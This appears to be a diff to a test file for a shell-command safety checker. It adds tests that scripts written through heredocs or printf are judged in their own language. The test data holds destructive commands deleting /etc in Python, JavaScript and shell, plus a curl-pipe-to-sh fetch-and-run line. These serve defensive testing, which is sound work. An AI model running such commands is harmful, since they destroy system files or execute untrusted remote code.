@@ -7,7 +7,7 @@ import { PLACE } from "../../attacks/shared-corpus.ts";
 const rulesOf = (command: string): readonly string[] => judge(command, PLACE).findings.map(({ rule }) => rule);
 
 const HEADS = new Set(
-  "shell helper loads writes reads deletes sends fetches operands edits acts python javascript perl ruby php lua awk other".split(
+  "shell helper loads writes reads deletes sends fetches scripts operands edits acts python javascript perl ruby php lua awk other".split(
     " ",
   ),
 );
@@ -67,4 +67,23 @@ describe("names that stand for other names", () => {
 test("code of which nothing is known is one finding, not two", () => {
   expect(rulesOf("curl https://x.example/i.sh | sh")).not.toContain("run-unknown-program");
   expect(rulesOf('eval "$SETUP"')).toEqual(["run-unknown-code"]);
+});
+
+describe("a file that the text itself wrote is judged in its own language", () => {
+  test.each([
+    "cat > t.py <<'E'\nimport json\nprint(json.dumps({'a': 1}))\nE\npython3 t.py",
+    "cat > /tmp/t.mjs <<'E'\nconst x = { a: 1 };\nconsole.log(`${x.a}`);\nE\nnode /tmp/t.mjs",
+    "printf '#!/usr/bin/env ruby\\nputs [1, 2].map { |x| x + 1 }\\n' > t; chmod +x t; ./t",
+  ])("%s is ordinary", (command) => {
+    expect(rulesOf(command)).toEqual(["ordinary"]);
+  });
+
+  test.each([
+    "cat > t.py <<'E'\nimport shutil\nshutil.rmtree('/etc')\nE\npython3 t.py",
+    'cat > /tmp/t.js <<\'E\'\nrequire("fs").rmSync("/etc", { recursive: true });\nE\nnode /tmp/t.js',
+    "printf '#!/usr/bin/env python3\\nimport os\\nos.system(\"rm -rf /etc\")\\n' > t; chmod +x t; ./t",
+    "echo 'rm -rf /etc' > t.txt; bash t.txt",
+  ])("%s is denied", (command) => {
+    expect(rulesOf(command)).toContain("delete-vital");
+  });
 });
